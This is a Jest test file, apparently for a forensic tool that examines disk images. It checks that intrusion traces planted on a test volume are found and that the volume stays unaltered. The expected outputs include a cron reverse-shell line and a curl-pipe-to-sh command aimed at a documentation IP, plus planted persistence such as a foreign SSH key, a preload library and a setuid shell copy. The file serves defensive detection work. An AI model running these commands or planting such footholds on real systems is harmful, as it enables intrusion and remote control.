import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { examine, keepSample } from './examine';
import { examiner, makeImage } from './make-image';
import { brokenInto, cleanMachine } from './plant';
import { sha256 } from './start-store';

/** What is there on any machine; the rest says nothing of one on which nothing happened. */
const ALWAYS = ['timeline', 'accounts', 'ssh', 'changed', 'credentials'];

const about = (lines: readonly string[], part: string) =>
  lines.filter((line) => line.includes(part));

test('each trace on a volume is found, and the volume is as it was', async () => {
  const root = examiner();
  const image = makeImage(root, brokenInto(), ['tmp/gone.sh']);
  const before = sha256(readFileSync(image));
  const examination = await examine(root, { since: '2026-01-01' });
  const { index, said } = examination;
  keepSample('broken-into', examination);

  expect(sha256(readFileSync(image))).toBe(before);
  expect(index).toMatchObject({ sha256Before: before, sha256After: before });
  expect(index.fileSystems).toEqual([
    expect.objectContaining({ number: 1, type: 'ext4', mounted: true }),
  ]);
  expect(index.results.filter(({ outcome }) => outcome !== 'done')).toEqual([]);

  expect(said('authorized-keys')).toEqual([
    expect.stringMatching(
      /^ *\d+ -rw-r--r-- 1 0 0 40 [-\d]+ [:.\d]+ \+0000 ".\/root\/.ssh\/authorized_keys"$/,
    ),
    '| ssh-ed25519 AAAAC3Nza foreign@elsewhere',
  ]);
  expect(said('cron')).toContain('| * * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
  expect(said('units')).toContain('| ExecStart=/tmp/.sh');
  expect(said('preload')).toContain('| /usr/lib/libhide.so');
  expect(said('histories')).toEqual(
    expect.arrayContaining(['| #1796000000', '| curl -s http://203.0.113.9/x.sh | sh']),
  );
  expect(said('deleted')).toEqual([expect.stringMatching(/^r\/r \* \d+:\ttmp\/gone\.sh$/)]);
  expect(about(said('setuid'), '-rwsr-xr-x')).toEqual([expect.stringContaining('"./tmp/.sh"')]);
  expect(said('setuid-copies')).toEqual([
    expect.stringContaining('"./tmp/.sh"'),
    expect.stringMatching(/^\| [0-9a-f]{64} {2}\.\/usr\/bin\/dash$/),
  ]);
  expect(said('temporary-programs')).toEqual([expect.stringContaining('"./tmp/.sh"')]);
  expect(said('foreign-programs')).toEqual([expect.stringMatching(/^[0-9a-f]{32} {2}bin\/ss$/)]);
  expect([...said('patterns')].sort()).toEqual([
    'aws_key "./home/dev/.aws/credentials"',
    'download_and_run "./root/.bash_history"',
    'miner "./opt/.cache/config.json"',
    'reverse_shell "./etc/cron.d/sync"',
    'web_shell "./var/www/html/logo.php"',
  ]);
  expect(about(said('timeline'), '"/etc/cron.d/sync"')).not.toEqual([]);
  expect(about(said('timeline'), '"/tmp/gone.sh (deleted)"')).not.toEqual([]);
});

test('a new account is seen beside the list of before, and no hash of a password leaves the volume', async () => {
  const root = examiner();
  makeImage(root, brokenInto());
  const { folder, said } = await examine(root);
  expect(said('accounts')).toEqual(
    expect.arrayContaining([
      '| sys:SET:0:0::/:/bin/sh',
      '| root:*:20000:0:99999:7:::',
      '| dev:SET:20000::::::',
    ]),
  );
  expect(about(said('accounts'), '"./etc/passwd-"')).toHaveLength(1);
  expect(readFileSync(join(folder, '1/accounts.txt'), 'utf8')).not.toMatch(/hash|salt/);
});

test('on a clean volume everything was looked for, and nothing is found', async () => {
  const root = examiner();
  makeImage(root, cleanMachine());
  const examination = await examine(root);
  const { index } = examination;
  keepSample('clean', examination);
  const found = index.results.filter(({ tool, lines }) => lines > 0 && !ALWAYS.includes(tool));
  expect(found).toEqual([]);
  expect(index.results.length).toBeGreaterThan(15);
  for (const { outcome, lookedFor, version, sha256: hash } of index.results) {
    expect(outcome).toBe('done');
    expect(lookedFor).not.toBe('');
    expect(version).toMatch(/\d\.\d/);
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
  }
});
